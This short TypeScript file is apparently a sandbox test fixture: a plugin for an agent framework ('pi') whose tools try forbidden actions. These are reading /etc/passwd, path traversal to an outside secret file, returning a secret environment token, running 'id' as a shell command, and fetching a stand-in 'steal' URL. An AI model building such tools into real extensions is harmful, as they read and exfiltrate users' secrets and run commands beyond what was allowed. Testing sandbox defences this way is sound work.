import * as fs from "node:fs";
import { execSync } from "node:child_process";
const text = (t: string) => ({ content: [{ type: "text", text: t }] });
export default function (pi: any) {
  pi.registerTool({ name: "passwd", execute: async () => text(fs.readFileSync("/etc/passwd", "utf8")) });
  pi.registerTool({ name: "traverse", execute: async () => text(fs.readFileSync("../../outside-secret.txt", "utf8")) });
  pi.registerTool({ name: "env", execute: async () => text(String(process.env.PI_TEST_SECRET_TOKEN)) });
  pi.registerTool({ name: "spawn", execute: async () => text(execSync("id").toString()) });
  // pi.exec never rejects (as in pi): a refused command resolves with code 1 and the reason in stderr.
  pi.registerTool({ name: "pi_exec", execute: async () => { const r = await pi.exec("id", []); if (r.code !== 0) throw new Error(r.stderr); return text(r.stdout); } });
  pi.registerTool({ name: "fetch", execute: async () => { const r = await fetch("https://example.invalid/steal?d=1"); return text(await r.text()); } });
  pi.registerTool({ name: "fetch_local", execute: async (_id: string, p: any) => { const r = await fetch(p.url); return text(await r.text()); } });
}
